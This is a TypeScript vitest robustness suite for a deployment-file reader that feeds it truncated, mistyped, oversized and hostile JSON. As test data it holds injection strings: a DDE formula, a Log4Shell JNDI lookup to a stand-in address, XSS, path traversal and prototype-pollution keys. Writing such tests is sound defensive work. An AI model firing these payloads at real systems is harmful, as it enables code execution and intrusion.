import { expect, it } from 'vitest';
import { readDeployment } from '#shared/deployment/file/read-deployment.ts';
import { writeDeployment } from '#shared/deployment/file/write-deployment.ts';
import { sampleText, smallFile } from './sample-files.ts';

/** A text that may be anything, and what reading it may end in. */
interface BrokenFile {
  readonly name: string;
  readonly text: string;
  /** `either`: nothing is wrong with some of these but that they look strange. */
  readonly ending: 'problems' | 'read' | 'either';
}

const SAMPLE = sampleText('two-sites-voice');

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

const parsed = (): Json => JSON.parse(SAMPLE) as Json;

/** Every field of a value once, list items by their first two. */
function pathsIn(value: Json): readonly (readonly (string | number)[])[] {
  if (typeof value !== 'object' || value === null) return [[]];
  const entries: readonly (readonly [string | number, Json])[] = Array.isArray(value)
    ? value.slice(0, 2).map((item, index) => [index, item] as const)
    : Object.entries(value);
  return [[], ...entries.flatMap(([key, item]) => pathsIn(item).map((path) => [key, ...path]))];
}

/** A sample with another value at a path. */
function replaced(path: readonly (string | number)[], value: Json): string {
  if (path.length === 0) return JSON.stringify(value);
  const root = parsed();
  let holder = root as Record<string | number, Json>;
  for (const key of path.slice(0, -1)) holder = holder[key] as Record<string | number, Json>;
  holder[path.at(-1) ?? ''] = value;
  return JSON.stringify(root);
}

/** Where null or a truth value may stand, something that may not. */
const WRONG: ReadonlyMap<string, Json> = new Map<string, Json>([
  ['media/clientRangeEnabled', -1],
  ['logo', true],
]);

/** What no field is, whatever its type: null everywhere, and a text, list or number of the wrong kind. */
function wrongTypes(): readonly BrokenFile[] {
  const kinds: readonly Json[] = [null, true, -1, 1.5, [[]], { x: {} }];
  return pathsIn(parsed()).map((path, index) => {
    const kind = kinds[index % kinds.length] ?? null;
    const value = WRONG.get(path.join('/')) ?? kind;
    const holdsAnything = path.at(-1) === 'interfaces' || path.length === 0;
    return {
      name: `${JSON.stringify(value)} at ${path.join('/')}`,
      text: replaced(path, value),
      // An object stands where objects stand, and its own field is one that the program does not know.
      ending: JSON.stringify(value) === '{"x":{}}' && !holdsAnything ? 'either' : 'problems',
    };
  });
}

function truncated(): readonly BrokenFile[] {
  const count = 60;
  return Array.from({ length: count }, (_, index) => {
    const end = Math.floor((SAMPLE.length - 3) * ((index + 1) / count));
    return { name: `cut off at ${String(end)}`, text: SAMPLE.slice(0, end), ending: 'problems' };
  });
}

/** Texts that do harm where somebody pastes them: spreadsheets, consoles, pages. All of them are texts all the same. */
const HOSTILE_TEXTS: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  '"; permit any any',
  '+HYPERLINK("http://192.0.2.1")',
  '@SUM(1)',
  '</script><script>alert(1)</script>',
  '${jndi:ldap://192.0.2.1/a}',
  '`reboot`',
  '\\"\\\\',
  '../../etc/passwd',
  '%s%n',
];

/** Characters that nobody sees, or that are none. */
const HIDDEN_TEXTS: readonly string[] = [
  'a\u0000b',
  'a\u0007b',
  'line\nbreak',
  'tab\tstop',
  'a\u007Fb',
  'a\u0085b',
  'a\u200Bb',
  'a\u200Fb',
  'a\u202Eb',
  'a\u2066b',
  'a\u2028b',
  'a\uFEFFb',
  'a\uD800b',
  '\uDC00',
  'a\uFFFDb',
  'a\u{E0041}b',
];

const FIELDS: readonly (readonly (string | number)[])[] = [
  ['request', 'customer'],
  ['titleBlock', 'subject'],
  ['revisions', 0, 'note'],
  ['sites', 0, 'name'],
  ['networks', 0, 'addresses', 0],
  ['hosts', 5, 'name'],
  ['hosts', 5, 'note'],
  ['hosts', 5, 'interfaces', 'external', 'name'],
  ['boundaries', 0, 'segments', 0, 'name'],
];

function strangeTexts(): readonly BrokenFile[] {
  const at = (index: number): readonly (string | number)[] => FIELDS[index % FIELDS.length] ?? [];
  return [
    ...HOSTILE_TEXTS.map((text, index): BrokenFile => ({
      name: `the text ${text}`,
      text: replaced(at(index), text),
      ending: 'read',
    })),
    ...HIDDEN_TEXTS.map((text, index): BrokenFile => ({
      name: `the text ${JSON.stringify(text)}`,
      text: replaced(at(index), text),
      ending: 'problems',
    })),
    ...HOSTILE_TEXTS.map((text): BrokenFile => ({
      name: `the id ${text}`,
      text: replaced(['hosts', 0, 'id'], text),
      ending: 'problems',
    })),
  ];
}

function oversized(): readonly BrokenFile[] {
  const many = <T>(count: number, item: (index: number) => T): T[] =>
    Array.from({ length: count }, (_, index) => item(index));
  const list: readonly (readonly [string, string])[] = [
    ['a name of a megabyte', replaced(['hosts', 0, 'name'], 'x'.repeat(1_000_000))],
    ['a file of more than 20 MB', smallFile({ note: 'x'.repeat(21 * 1024 * 1024) })],
    ['two million values', `{"format":"portolan-deployment","a":[${'0,'.repeat(2_000_000)}0]}`],
    ['a hundred thousand lists in lists', '['.repeat(100_000)],
    ['a hundred thousand objects in objects', '{"a":'.repeat(100_000)],
    ['a list in a list in a list in an unknown field', smallFile({ deep: nested(40) })],
    [
      '6000 hosts',
      smallFile({ hosts: many(6000, (n) => ({ id: `h-${String(n)}`, role: 'edge' })) }),
    ],
    [
      '100000 sites, each the parent of the next',
      smallFile({
        sites: many(100_000, (n) => ({ id: `s-${String(n)}`, parent: `s-${String(n + 1)}` })),
      }),
    ],
    [
      '1000 addresses at one interface',
      replaced(
        ['networks', 0, 'addresses'],
        many(1000, () => '10.0.0.1'),
      ),
    ],
    [
      'a key of a megabyte',
      smallFile({
        hosts: [{ id: 'a', role: 'edge', interfaces: { ['k'.repeat(1_000_000)]: {} } }],
      }),
    ],
  ];
  return list.map(([name, text]) => ({ name, text, ending: 'problems' }));
}

function nested(depth: number): Json {
  return depth === 0 ? [] : [nested(depth - 1)];
}

function notDeployments(): readonly BrokenFile[] {
  const twice = SAMPLE.replace('"ports":', '"hosts": [],\n  "ports":');
  const list: readonly (readonly [string, string])[] = [
    ['nothing', ''],
    ['blanks', ' \n\t '],
    ['a byte order mark alone', '\uFEFF'],
    ['prose', 'Dear colleague, please find attached'],
    ['XML', '<?xml version="1.0"?><Topology/>'],
    ['CSV', 'from,to,port\nedge,front-end,5061\n'],
    ['a program', '(() => { throw new Error() })()'],
    ['a zip file', 'PK\u0003\u0004\u0014\u0000\u0006\u0000\uFFFD\uFFFD!'],
    ['a picture', '\uFFFDPNG\r\n\u001A\n\u0000\u0000\u0000'],
    ['UTF-16, low byte first', smallFile().replaceAll(/./gsu, '$&\0')],
    ['UTF-16, high byte first', smallFile().replaceAll(/./gsu, '\0$&')],
    ['UTF-16 with its mark', `\uFFFD\uFFFD${smallFile()}`],
    ['zeros', '\0'.repeat(5000)],
    ['null', 'null'],
    ['a number', '42'],
    ['a text', '"portolan-deployment"'],
    ['a list', '[]'],
    ['an object of another kind', '{"format":"something-else","version":1}'],
    ['an object without format', JSON.stringify({ version: 1, scenario: { product: 'sfb-2015' } })],
    ['two documents', `${smallFile()}\n${smallFile()}`],
    ['single quotes', smallFile().replaceAll('"', "'")],
    ['comments', `// mine\n${smallFile()}`],
    ['a trailing comma', SAMPLE.replace('"boundaries": [', '"boundaries": [,')],
    ['NaN', smallFile().replace('"version":1', '"version":NaN')],
    ['Infinity', smallFile().replace('"version":1', '"version":-Infinity')],
    ['a number beyond all numbers', SAMPLE.replace('"start": 50020', '"start": 1e999')],
    ['a huge number in an unknown field', smallFile({}).replace('{', '{"x":1e999,')],
    ['a hexadecimal number', SAMPLE.replace('"start": 50020', '"start": 0xC364')],
    ['a leading zero', SAMPLE.replace('"start": 50020', '"start": 050020')],
    ['a version in quotes', smallFile({ version: '1' })],
    ['a version between two', smallFile({ version: 1.5 })],
    ['a version below zero', smallFile({ version: -1 })],
    ['a backslash that means nothing', SAMPLE.replace('Charter brokers', 'Charter \\qrokers')],
    ['a line break in a text', SAMPLE.replace('Charter brokers', 'Charter\nbrokers')],
    [
      'a bare control character in a text',
      SAMPLE.replace('Charter brokers', 'Charter\u0001brokers'),
    ],
    [
      '__proto__ in a host',
      SAMPLE.replace('"note": "Charter', '"__proto__": {"id": "x"}, "note": "Charter'),
    ],
    [
      '__proto__ at the top',
      SAMPLE.replace('{', '{"__proto__": {"format": "portolan-deployment"},'),
    ],
    ['__proto__ as an interface', SAMPLE.replace('"access-vip":', '"__proto__":')],
    [
      'constructor as a field',
      SAMPLE.replace('{', '{"constructor": {"prototype": {"polluted": true}},'),
    ],
    ['prototype in an unknown field', smallFile({ x: { prototype: 1 } })],
    ['an escaped __proto__', SAMPLE.replace('{', '{"__pr\\u006fto__": {"polluted": true},')],
    ['the hosts twice', twice],
    ['a field twice in a host', SAMPLE.replace('"note": "Charter', '"id": "x", "note": "Charter')],
    ['an id twice', SAMPLE.replaceAll('harbour-fe-2', 'harbour-fe-1')],
    [
      'a host of no site',
      SAMPLE.replace(
        '"id": "harbour-dhcp", "site": "harbour"',
        '"id": "harbour-dhcp", "site": "nowhere"',
      ),
    ],
    [
      'a network of no site',
      SAMPLE.replace(
        '"id": "harbour-phones", "site": "harbour"',
        '"id": "harbour-phones", "site": "nowhere"',
      ),
    ],
    ['a pair of no site', SAMPLE.replace('"pairedWith": "harbour"', '"pairedWith": "nowhere"')],
    ['a parent of no site', SAMPLE.replace('"parent": "harbour"', '"parent": "nowhere"')],
    ['parents in a circle', SAMPLE.replace('"pairedWith": "veldmark"', '"parent": "skarnes"')],
    [
      'NAT behind a hardware load balancer',
      SAMPLE.replace('"edgeAddressing": "public"', '"edgeAddressing": "nat"'),
    ],
  ];
  return list.map(([name, text]) => ({ name, text, ending: 'problems' }));
}

const FILES: readonly BrokenFile[] = [
  ...truncated(),
  ...wrongTypes(),
  ...strangeTexts(),
  ...oversized(),
  ...notDeployments(),
];

it('has two hundred broken files to read, and more', () => {
  expect(FILES.length).toBeGreaterThanOrEqual(200);
  // A replacement that found nothing to replace would leave the file whole.
  expect(FILES.filter(({ text }) => text === SAMPLE || text === smallFile())).toEqual([]);
});

it.each(FILES)('answers to $name with problems or a sound deployment, and never throws', (file) => {
  const reading = readDeployment(file.text);
  if (reading.kind !== 'problems') {
    expect(file.ending).not.toBe('problems');
    expect(reading.kind).toBe('read');
    const text = writeDeployment(reading.deployment);
    expect(readDeployment(text)).toMatchObject({ kind: 'read', deployment: reading.deployment });
    return;
  }
  expect(file.ending).not.toBe('read');
  expect(Object.keys(reading).toSorted()).toEqual(['kind', 'problems']);
  expect(reading.problems.length).toBeGreaterThan(0);
  const lineCount = file.text.split('\n').length;
  for (const { place, line, message } of reading.problems) {
    expect(place.length).toBeLessThan(300);
    if (line !== null) expect(line).toBeGreaterThan(0);
    if (line !== null) expect(line).toBeLessThanOrEqual(lineCount);
    for (const words of [message.en, message.fr]) {
      expect(words).toMatch(/^\S.{10,900}\.$/u);
      expect(words).not.toMatch(/undefined|\[object|[\p{Cc}\p{Cf}\p{Cs}]/u);
    }
    expect(message.fr).not.toBe(message.en);
    const ownWords = message.fr.replace(/«.*?\u00a0»|"\w+": \S+/gu, '');
    expect(ownWords).not.toMatch(/[^\u00a0][:;?!](?:\s|$)/u);
  }
});

it('leaves the objects of the language as they were', () => {
  for (const { text } of FILES) readDeployment(text);
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  expect(Object.keys(Object.prototype)).toEqual([]);
});
